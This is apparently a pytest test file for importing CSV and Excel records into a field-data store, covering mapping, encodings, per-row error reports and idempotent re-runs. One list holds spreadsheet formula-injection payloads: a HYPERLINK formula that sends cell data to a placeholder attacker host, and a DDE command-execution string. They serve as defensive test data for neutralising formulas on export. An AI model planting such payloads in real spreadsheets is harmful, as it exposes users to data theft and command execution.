"""Importing records from CSV and Excel: mapping, per-row report with the row numbers a person
sees, all or nothing (record counts before and after), and an idempotent re-run."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import openpyxl
import pytest

from store.exports import export_project
from store.fielddata.importer import check_file, import_file, preview
from store.fielddata.projects import create_project
from store.fielddata.records import AlreadyImported, create_record, import_records, iter_records
from store.fielddata.tablefile import TableFileError
from tests.exports.helpers import USER, form, make_project


@pytest.fixture
def project(store):
    return create_project(store, "Import target", form(2), user=USER)


def count(store, project_id: str) -> int:
    return len(list(iter_records(store, project_id)))


def audit_imports(store) -> int:
    return store.read_one("SELECT count(*) FROM audit_log WHERE entity = 'import'")[0]


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def test_csv_by_field_names(store, project, tmp_path):
    f = write(tmp_path / "birds.csv", "observer,count,weight,species,habitat,seen_on,ringed,loc\n"
              "Jürgen,3,17.5,wren,forest water,2024-05-31,yes,47.5 8.25 0 3\n"
              "Zoë 中文,0,,,,,no,\n")
    report = import_file(store, project.id, f, user=USER)
    assert report.ok and report.imported == 2 and report.rows == 2, report.text()
    got = [r.data for r in iter_records(store, project.id)]
    assert got == [
        {"observer": "Jürgen", "count": 3, "weight": 17.5, "species": "wren", "habitat": ["forest", "water"],
         "seen_on": "2024-05-31", "ringed": True, "loc": {"lat": 47.5, "lon": 8.25, "accuracy": 3.0}},
        {"observer": "Zoë 中文", "count": 0, "ringed": False},
    ]
    assert all(r.status == "final" and r.created_by == USER for r in iter_records(store, project.id))
    assert "Imported 2 records." in report.text()


def test_semicolon_cp1252_german_labels_and_choice_labels(store, project, tmp_path):
    f = write(tmp_path / "excel.csv", "Beobachter;Anzahl;Gewicht (g);Art;Lebensraum;Date;Unbekannt\n"
              "Jörg Müller;4;12,5;Zaunkönig;\"Wald; Wiese\";31.05.2024;x\n", encoding="cp1252")
    shown = preview(f, form(2))
    assert shown.encoding == "cp1252" and shown.delimiter == ";"
    assert shown.mapping == {"Beobachter": "observer", "Anzahl": "count", "Gewicht (g)": "weight", "Art": "species",
                             "Lebensraum": "habitat", "Date": "seen_on", "Unbekannt": None}
    assert any("Windows-1252" in w for w in shown.warnings) and any("Unbekannt" in w for w in shown.warnings)
    assert shown.rows == [["Jörg Müller", "4", "12,5", "Zaunkönig", "Wald; Wiese", "31.05.2024", "x"]]
    report = import_file(store, project.id, f, user=USER)
    assert report.ok, report.text()
    [record] = iter_records(store, project.id)
    assert record.data == {"observer": "Jörg Müller", "count": 4, "weight": 12.5, "species": "wren",
                           "habitat": ["forest", "meadow"], "seen_on": "2024-05-31"}


def test_xlsx_with_typed_cells_and_a_mapping(store, project, tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Who", "count", "Weight (g)", "seen_on", "seen_at", "logged", "ringed", "ignored"])
    sheet.append(["Ana", 12, 9.25, dt.datetime(2025, 1, 2), dt.time(23, 59, 59), dt.datetime(2025, 1, 2, 23, 59), False, "x"])
    sheet.append([None] * 8)  # an empty row is skipped, not a record
    sheet.append(["Bo", 2.0, None, None, None, None, True, None])
    book.save(tmp_path / "t.xlsx")
    report = import_file(store, project.id, tmp_path / "t.xlsx", {"Who": "observer", "ignored": None}, user=USER, status="draft")
    assert report.ok and report.imported == 2, report.text()
    got = [(r.status, r.data) for r in iter_records(store, project.id)]
    assert got == [
        ("draft", {"observer": "Ana", "count": 12, "weight": 9.25, "seen_on": "2025-01-02", "seen_at": "23:59:59",
                   "logged": "2025-01-02T23:59:00", "ringed": False}),
        ("draft", {"observer": "Bo", "count": 2, "ringed": True}),
    ]


@pytest.mark.parametrize("labels", [True, False])
def test_an_export_imports_back_to_the_same_values(store, attachments, tmp_path, labels):
    source, data = make_project(store, attachments)
    target = create_project(store, "Copy", form(2), user=USER)
    out = tmp_path / "birds.csv"
    export_project(store, source.id, "csv", out, labels=labels)
    report = import_file(store, target.id, out, user=USER, status="draft")
    assert report.ok, report.text()
    assert report.mapping["photo"] is None and report.mapping["_id"] is None and report.mapping["old_note"] is None
    assert report.mapping["loc_lat"] == "loc.lat"
    expected = [{k: v for k, v in d.items() if k not in ("photo", "old_note") and v not in (None, [])} for d in data]
    assert [r.data for r in iter_records(store, target.id)] == expected


def test_every_bad_row_is_reported_with_its_row_number_and_nothing_is_imported(store, project, tmp_path):
    create_project(store, "Other", form(2), user=USER)
    before = count(store, project.id)
    f = write(tmp_path / "bad.csv", (
        "observer,count,seen_on,species\n"      # row 1
        "ok,1,2024-01-01,wren\n"                # row 2: fine
        "ok,many,2024-01-01,wren\n"             # row 3: not a number
        "\n"                                     # row 4: blank, still counted
        "ok,2,31.02.2024,wren\n"                # row 5: no such date
        ",3,2024-01-01,wren\n"                   # row 6: observer required
        "ok,-1,2024-01-01,wren\n"               # row 7: constraint . >= 0
        "ok,1,2024-01-01,eagle\n"               # row 8: not a choice
        "ok,1,2024-01-01,wren,extra\n"          # row 9: one cell too many
        "\"two\nlines\",1,2024-01-01,owl\n"     # row 10: a quoted line break is still one row
    ))
    report = import_file(store, project.id, f, user=USER)
    assert not report.ok and report.imported == 0 and report.rows == 8  # the blank row is no record
    found = [(p.row, p.column, p.field) for p in report.problems]
    assert found == [(3, "count", "count"), (5, "seen_on", "seen_on"), (6, None, "observer"), (7, "count", "count"),
                     (8, "species", "species"), (9, None, None), (10, "species", "species")]
    messages = [p.message for p in report.problems]
    assert "'many' is not a number" in messages[0] and "is not a date" in messages[1]
    assert messages[2] == "This field is required." and messages[3] == "This value is not allowed here."
    assert "'eagle' is not one of the choices" in messages[4] and "has 5 or more cells but the header has 4" in messages[5]
    text = report.text()
    assert "Row 3, column “count”: " in text and "Row 6, field “observer”: This field is required." in text
    assert "Nothing was imported: 7 problems in 8 rows." in text
    assert count(store, project.id) == before and audit_imports(store) == 0


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+41 79 123", "-dash", "@SUM(A1)",
            "\tTAB", "'=already quoted", "''=twice", "'tis the season", "plain", "a=b", "\u2212unicode minus"]


def test_csv_cells_that_would_be_formulas_are_neutralised_and_read_back_exactly(store, tmp_path):
    """A label or value typed as =HYPERLINK(…) must not become a formula in a spreadsheet; the
    import undoes exactly what the export added, so the round trip stays exact."""
    source = create_project(store, "Formulas", form(2), user=USER)
    for text in FORMULAS:
        create_record(store, source.id, {"observer": text}, user=USER)
    out = tmp_path / "f.csv"
    export_project(store, source.id, "csv", out)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    column = rows[0].index("observer")
    cells = [r[column] for r in rows[1:]]
    assert all(not c or c[0] not in "=+-@\t\r" for c in cells), cells
    assert "'" + FORMULAS[0] in cells and "'''=twice" in cells and "'tis the season" in cells and "plain" in cells
    target = create_project(store, "Back", form(2), user=USER)
    report = import_file(store, target.id, out, user=USER, status="draft")
    assert report.ok, report.text()
    assert sorted(r.data["observer"] for r in iter_records(store, target.id)) == sorted(FORMULAS)


def test_a_first_line_over_the_csv_field_limit_is_a_plain_refusal(store, project, tmp_path):
    wide = tmp_path / "wide.csv"
    wide.write_text("observer\n" + "x" * 200_000 + "\n", encoding="utf-8")
    big = tmp_path / "bighead.csv"
    big.write_text("o" * 200_000 + "\nx\n", encoding="utf-8")
    for path in (wide, big):
        with pytest.raises(TableFileError, match="cannot be read as CSV"):
            import_file(store, project.id, path, user=USER)
    assert count(store, project.id) == 0


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (b"", "empty.csv", "is empty"),
        (b"  \r\n\r\n ", "blank.csv", "is empty"),
        (b",,,\nok,1\n", "noheader.csv", "first row of noheader.csv is empty"),
        (b"observer,count,Observer\nx,1,y\n", "dup.csv", "Columns A and C of dup.csv are both called “Observer”"),
        (b"just some text, not a table", "fake.xlsx", "not an Excel workbook"),
        (b"PK\x03\x04 broken zip", "broken.xlsx", "not an Excel workbook"),
        (b"\x00\x01\x02binary\xff\xfe\x00", "bin.csv", "not a text (CSV) file"),
        (b"old", "old.xls", "old Excel file (.xls)"),
    ],
)
def test_unreadable_files_are_refused_in_one_sentence(store, project, tmp_path, content, name, words):
    f = tmp_path / name
    f.write_bytes(content)
    with pytest.raises(TableFileError, match=words.replace("(", r"\(").replace(")", r"\)").replace(".", r"\.")):
        import_file(store, project.id, f, user=USER)
    assert count(store, project.id) == 0


def test_rows_that_are_data_not_a_header_get_a_plain_problem(store, project, tmp_path):
    f = write(tmp_path / "data.csv", "Ana,3,2024-01-01\nBo,4,2024-01-02\n")
    report = import_file(store, project.id, f, user=USER)
    assert [p.message for p in report.problems][0].startswith("No column matches a field of the form. The first row must hold the column names")
    assert count(store, project.id) == 0


def test_size_and_row_limits(store, project, tmp_path):
    f = write(tmp_path / "big.csv", "observer\n" + "".join(f"p{i}\n" for i in range(5)))
    with pytest.raises(TableFileError, match="imports files up to"):
        import_file(store, project.id, f, user=USER, max_bytes=20)
    with pytest.raises(TableFileError, match=r"more than 3 rows \(row 5 is one too many\)"):
        import_file(store, project.id, f, user=USER, max_rows=3)
    assert count(store, project.id) == 0


def test_mapping_mistakes_are_reported(store, project, tmp_path):
    f = write(tmp_path / "m.csv", "observer,pic,Who\nAna,x.jpg,Bo\n")
    report = check_file(f, form(2), {"pic": "photo", "Who": "nobody", "missing": "count"})
    assert [(p.column, p.message) for p in report.problems] == [
        ("pic", "Photos and files cannot be imported from a table; leave “pic” unmapped."),
        ("Who", "“nobody” is not a field of this form."),
        (None, "The file has no column “missing” (its columns: observer, pic, Who)."),
    ]
    report = check_file(f, form(2), {"Who": "observer"})
    assert "Columns “observer” and “Who” both go into “observer”" in report.problems[0].message


def test_header_only_and_latin1_fallback(store, project, tmp_path):
    report = import_file(store, project.id, write(tmp_path / "h.csv", "observer,count\n"), user=USER)
    assert report.problems[0].message == "The file h.csv has a header row but no data rows."
    f = tmp_path / "l.csv"
    f.write_bytes(b"observer\nA\x81b\n")  # 0x81 is not a Windows-1252 character
    report = import_file(store, project.id, f, user=USER)
    assert report.ok and any("Latin-1" in w for w in report.warnings)
    assert [r.data["observer"] for r in iter_records(store, project.id)] == ["A\x81b"]


def test_tab_separated_utf16_as_excel_saves_unicode_text(store, project, tmp_path):
    f = write(tmp_path / "u.txt", "observer\tcount\r\nÅsa\t5\r\n", encoding="utf-16")
    report = import_file(store, project.id, f, user=USER)
    assert report.ok, report.text()
    assert [r.data for r in iter_records(store, project.id)] == [{"observer": "Åsa", "count": 5}]


def test_the_same_import_twice_adds_nothing(store, project, tmp_path):
    f = write(tmp_path / "once.csv", "observer,count\nAna,1\nBo,2\n")
    first = import_file(store, project.id, f, user=USER)
    assert first.imported == 2 and not first.already_imported
    again = import_file(store, project.id, f, user=USER)
    assert again.already_imported and again.imported == 2 and again.key == first.key
    assert "already imported" in again.text()
    assert count(store, project.id) == 2 and audit_imports(store) == 1
    # a second run that passed the check before the first committed is refused inside the transaction
    with pytest.raises(AlreadyImported):
        import_records(store, project.id, [{"observer": "Ana"}], user=USER, import_key=first.key)
    assert count(store, project.id) == 2
    # the same file as drafts, or with another mapping, is another import
    assert import_file(store, project.id, f, user=USER, status="draft").imported == 2
    assert count(store, project.id) == 4
